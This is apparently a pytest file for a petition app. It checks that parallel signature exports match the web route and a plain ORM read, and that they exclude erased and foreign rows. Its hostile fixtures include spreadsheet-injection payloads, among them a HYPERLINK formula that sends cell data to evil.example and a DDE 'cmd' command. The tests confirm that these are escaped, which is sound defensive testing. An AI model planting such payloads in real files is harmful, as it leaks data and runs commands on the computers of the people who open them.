"""Parallel exports: the bytes of a signature export do not depend on how many processes read it. They equal what
the web route streams and what a plain ORM read of the same rows gives, on a real file of demo signers mixed with
hostile ones, rows sealed under an older key, opt-ins, erased signers and another campaign's rows."""

from __future__ import annotations

import base64
import csv
import io
import json
import multiprocessing
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select
from typer.testing import CliRunner

from app import cli, erasure, exports
from app.db import Database, utcnow
from app.encryption import KeyError_, Keyring
from app.main import create_app
from app.models import CONFIRMED, PENDING, AuditLog, Signature, TargetOptIn
from app.state import Services
from tests.seed import add_signatures, bearer, organiser, signature_values
from tests.support import TEST_DATA_KEY, make_settings, settings_env

NEW_KEY = "t2:" + base64.urlsafe_b64encode(b"n" * 32).decode()  # the primary: demo rows are sealed with it
LEADS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
HOSTILE = [
    # (name, city, message)
    ('=HYPERLINK("http://evil.example/?d="&A1,"Click")', "=cmd|' /C calc'!A0", "-1+1\nsecond line"),
    ("+1", "Almaty, Medeu", 'He said "free him"'),
    ("@SUM(A1:A9)", "", "line one\r\nline two"),
    ("\tTab-led", "\uff0bfull", ",leading comma"),
    ("\rCR-led", "Москва", "\uff20at"),
    ("Жанар Әлиева", "Қарағанды", ""),
    ("O'Brien, Jr.", '"quoted"', "trailing CR\r"),
]


def demo(settings, count: int, confirmed_share: str) -> None:
    result = CliRunner().invoke(cli.app, ["demo-data", "mamay", "--count", str(count), "--confirmed-share",
                                          confirmed_share], env=settings_env(settings))
    assert result.exit_code == 0, result.output


def fill_mixed(settings, svc: Services, *, demo_rows: int) -> dict[str, list[int]]:
    """Demo signers (new key), hostile ones and another campaign's (old key), more demo signers; then opt-ins on
    some and the erasure of others. Returns the ids of what must and must not leave."""
    demo(settings, demo_rows, "0.6")
    old = Keyring.parse(TEST_DATA_KEY)
    now = utcnow()
    rows = []
    for i, (name, city, message) in enumerate(HOSTILE):
        for status in (CONFIRMED, PENDING):
            rows.append(signature_values(old, name=name, email=f"h{i}{status}@example.org", city=city,
                                         message=message, status=status, created_at=now - timedelta(days=i)))
    other = [signature_values(old, name=f"Other {i}", email=f"o{i}@example.org", campaign="other",
                              created_at=now) for i in range(5)]
    with svc.db.write.begin() as s:
        hostile_ids = add_signatures(s, rows, opt_ins={0: ["akorda", "-evil"], 3: ["=x"], 5: ["akorda"]})
        other_ids = add_signatures(s, other, opt_ins={0: ["akorda"]})
    demo(settings, demo_rows, "0.5")
    with svc.db.write.begin() as s:
        ids = list(s.scalars(select(Signature.id).where(Signature.campaign == "mamay").order_by(Signature.id)))
        taken = {r for r in s.scalars(select(TargetOptIn.signature_id))}
        for n, signature_id in enumerate(ids):
            if n % 7 == 0 and signature_id not in taken:
                s.add_all([TargetOptIn(signature_id=signature_id, target=t, created_at=now)
                           for t in (["akorda", "un"] if n % 2 else ["un"])])
        erased = [i for n, i in enumerate(ids) if n % 11 == 5] + hostile_ids[-2:]  # O'Brien, both rows
        erasure.forget(s, erased, now=now)
    return {"erased": erased, "other": other_ids, "hostile": hostile_ids}


# --- what the export must be: an independent reading through the ORM ------------------------------------


def cell(value: str | None) -> str:
    value = value or ""
    return "'" + value if value.startswith(LEADS) else value


def reference(svc: Services, query: exports.SignatureQuery, fmt: str) -> bytes:
    where = [Signature.campaign == query.campaign, Signature.erased_at.is_(None)]
    if query.status != "all":
        where.append(Signature.status == query.status)
    if query.since:
        where.append(Signature.created_at >= datetime.combine(query.since, datetime.min.time(), tzinfo=UTC))
    records = []
    with svc.db.read() as s:
        targets: dict[int, list[str]] = {}
        for sid, target in s.execute(select(TargetOptIn.signature_id, TargetOptIn.target)
                                     .order_by(TargetOptIn.signature_id, TargetOptIn.target)):
            targets.setdefault(sid, []).append(target)
        for sig in s.scalars(select(Signature).where(*where).order_by(Signature.id)):
            def opened(field: str, value: bytes | None, sig: Signature = sig) -> str | None:
                return svc.keyring.open(value, field, sig.key_id)

            records.append({
                "id": sig.id, "name": opened("name", sig.name_enc), "email": opened("email", sig.email_enc),
                "city": opened("city", sig.city_enc) or "", "country": sig.country, "language": sig.language,
                "status": sig.status, "created_at": sig.created_at.isoformat(timespec="seconds"),
                "confirmed_at": sig.confirmed_at.isoformat(timespec="seconds") if sig.confirmed_at else None,
                "message": opened("message", sig.message_enc) or "", "opt_in_targets": targets.get(sig.id, []),
            })
    if fmt == "csv":
        buf = io.StringIO()
        writer = csv.writer(buf)
        writer.writerow(exports.SIGNATURE_COLUMNS)
        for r in records:
            writer.writerow([str(r["id"])] + [cell(r[k]) for k in exports.SIGNATURE_COLUMNS[1:7]]
                            + [r["created_at"], r["confirmed_at"] or "", cell(r["message"]),
                               cell(";".join(r["opt_in_targets"]))])
        return ("\ufeff" + buf.getvalue()).encode()
    safe = [json.dumps({k: (cell(v) if isinstance(v, str) else [cell(t) for t in v] if isinstance(v, list) else v)
                        for k, v in r.items()}, ensure_ascii=False) for r in records]
    return ("[" + ("\n" + ",\n".join(safe) if safe else "") + "\n]\n").encode()


def written(svc: Services, query: exports.SignatureQuery, fmt: str, **kwargs) -> bytes:
    out = io.BytesIO()
    exports.write_signatures(svc.db, svc.keyring, query, out, organiser="test", fmt=fmt, **kwargs)
    return out.getvalue()


@pytest.fixture
def mixed(tmp_path: Path, sqlite_url: str):
    settings = make_settings(tmp_path, sqlite_url, data_key=f"{NEW_KEY},{TEST_DATA_KEY}")
    db = Database(settings.sqlalchemy_url)
    svc = Services.build(settings, db=db)
    ids = fill_mixed(settings, svc, demo_rows=1500)
    yield settings, svc, ids
    db.dispose()


# --- the tests ---------------------------------------------------------------------------------------------


def test_many_processes_write_the_same_bytes_as_one_and_as_a_plain_orm_read(mixed):
    settings, svc, ids = mixed
    since = (utcnow() - timedelta(days=3)).date()
    for fmt in ("csv", "json"):
        for query in (exports.SignatureQuery("mamay", status="all"), exports.SignatureQuery("mamay"),
                      exports.SignatureQuery("mamay", status="pending", since=since)):
            expected = reference(svc, query, fmt)
            assert written(svc, query, fmt, workers=1) == expected, (fmt, query)
            # Ranges of 250 ids: about a dozen of them, read by three forked processes.
            assert written(svc, query, fmt, workers=3, span=250) == expected, (fmt, query)
    text = reference(svc, exports.SignatureQuery("mamay", status="all"), "csv").decode()
    assert "'=HYPERLINK" in text and "'-evil;akorda" in text and '"He said ""free him"""' in text
    assert text.count(";un") > 100 and "Жанар Әлиева" in text and "O'Brien, Jr." not in text
    exported = {int(r["id"]) for r in csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""))}
    assert len(exported) > 2000
    assert not exported & (set(ids["erased"]) | set(ids["other"]))
    assert not multiprocessing.active_children()  # every worker is gone


def test_cli_export_in_parallel_equals_the_web_route_byte_for_byte(mixed, tmp_path):
    settings, svc, _ = mixed
    out = tmp_path / "all.csv"
    result = CliRunner().invoke(cli.app, ["export", "mamay", "--status", "all", "-o", str(out), "--workers", "2"],
                                env=settings_env(settings))
    assert result.exit_code == 0, result.output
    expected = reference(svc, exports.SignatureQuery("mamay", status="all"), "csv")
    assert out.read_bytes() == expected
    with TestClient(create_app(settings, db=svc.db), base_url="http://testserver") as client:
        token = organiser(svc)
        for fmt in ("csv", "json"):
            answer = client.get(f"/api/v1/campaigns/mamay/signatures?format={fmt}&status=all", headers=bearer(token))
            assert answer.status_code == 200
            assert answer.content == reference(svc, exports.SignatureQuery("mamay", status="all"), fmt)
    with svc.db.read() as s:
        log = s.scalars(select(AuditLog).order_by(AuditLog.id)).all()
    rows = len(list(csv.DictReader(io.StringIO(expected.decode().removeprefix("\ufeff"), newline=""))))
    assert [e.what for e in log] == ["signatures all csv", "signatures all csv", "signatures all json"]
    assert log[0].organiser.startswith("cli:") and [e.rows for e in log] == [rows] * 3


def test_an_export_whose_output_fails_is_logged_as_interrupted_and_leaves_no_worker(mixed):
    _, svc, _ = mixed

    class Full(io.BytesIO):
        """An output that takes two writes of rows, then fails like a full disk."""

        def __init__(self) -> None:
            super().__init__()
            self.writes = 0

        def write(self, data) -> int:
            self.writes += 1
            if self.writes > 4:
                raise OSError(28, "No space left on device")
            return super().write(data)

    with pytest.raises(OSError):
        exports.write_signatures(svc.db, svc.keyring, exports.SignatureQuery("mamay", status="all"), Full(),
                                 organiser="test", fmt="csv", workers=2, span=200)
    with svc.db.read() as s:
        entry = s.scalar(select(AuditLog))
    assert entry.what == "signatures all csv (interrupted)" and 0 < entry.rows < 1000
    assert not multiprocessing.active_children()


@pytest.mark.postgres
def test_parallel_export_on_postgresql_equals_one_process_and_the_orm(tmp_path, pg_url):
    settings = make_settings(tmp_path, pg_url, data_key=f"{NEW_KEY},{TEST_DATA_KEY}")
    db = Database(pg_url)
    try:
        svc = Services.build(settings, db=db)
        ids = fill_mixed(settings, svc, demo_rows=200)
        for fmt in ("csv", "json"):
            for query in (exports.SignatureQuery("mamay", status="all"),
                          exports.SignatureQuery("mamay", since=utcnow().date() - timedelta(days=2))):
                expected = reference(svc, query, fmt)
                assert written(svc, query, fmt, workers=1) == expected
                assert written(svc, query, fmt, workers=2, span=60) == expected
                streamed = "".join(exports.signatures(db, svc.keyring, query, organiser="pg", fmt=fmt)).encode()
                assert streamed == expected
        text = reference(svc, exports.SignatureQuery("mamay", status="all"), "csv").decode()
        assert "'=HYPERLINK" in text and str(ids["other"][0]) not in {line.split(",")[0] for line in text.split()}
    finally:
        db.dispose()



def test_a_row_sealed_under_a_key_no_longer_held_stops_the_export_loudly(mixed):
    _, svc, _ = mixed
    ring = Keyring.parse(NEW_KEY)  # the older key t1 dropped too early: the hostile rows cannot be opened
    with pytest.raises(KeyError_, match="t1"):
        exports.write_signatures(svc.db, ring, exports.SignatureQuery("mamay", status="all"), io.BytesIO(),
                                 organiser="test", fmt="csv", workers=2, span=300)
    with svc.db.read() as s:
        assert s.scalar(select(AuditLog.what)) == "signatures all csv (interrupted)"
    assert not multiprocessing.active_children()
